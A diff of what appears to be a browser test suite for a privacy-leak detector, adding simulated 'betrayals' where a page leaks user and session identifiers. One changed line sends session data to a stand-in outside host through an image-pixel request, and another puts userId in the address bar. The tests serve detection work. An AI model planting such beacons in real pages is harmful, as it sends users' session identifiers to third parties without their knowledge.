@@ -31,7 +31,7 @@ const betrayals: readonly (readonly [how: string, betray: (page: Page) => Promis
     (page) =>
       asking(page, () =>
         page.evaluate((to) => {
-          new Image().src = `${to}/pixel${location.search}`;
+          new Image().src = `${to}/pixel?${new URLSearchParams(history.state.session)}`;
         }, ELSEWHERE),
       ),
     ['deviceId', 'userId', 'sessionId', 'mobilePhone', ...Object.keys(headers)].map(
@@ -60,6 +60,11 @@ const betrayals: readonly (readonly [how: string, betray: (page: Page) => Promis
         document.title = `Order of ${id}`;
       }, userId),
     ['userId in a title'],
+  ],
+  [
+    'the address',
+    (page) => page.evaluate((id) => history.replaceState(history.state, '', `?userId=${id}&source=x#${id}`), userId),
+    ['userId in the address', 'source in the address'],
   ],
   ['the console', (page) => page.evaluate((id) => console.info({ id }, id), sessionId), ['sessionId in the console']],
   [
